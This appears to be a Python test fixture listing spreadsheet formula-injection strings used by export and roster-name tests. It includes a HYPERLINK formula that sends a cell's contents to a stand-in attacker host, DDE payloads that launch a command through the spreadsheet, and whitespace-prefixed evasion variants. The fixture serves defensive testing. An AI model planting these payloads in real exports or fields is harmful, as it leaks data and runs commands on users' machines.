"""The spreadsheet formula forms of issue 18 (each formula character, and `=` behind a tab, a
space and a CR), shared by the export and the roster-name tests."""

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
INJECTED = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t" + HYPERLINK,
    " " + HYPERLINK,
    "\r" + HYPERLINK,
    "\t =1+1",
]
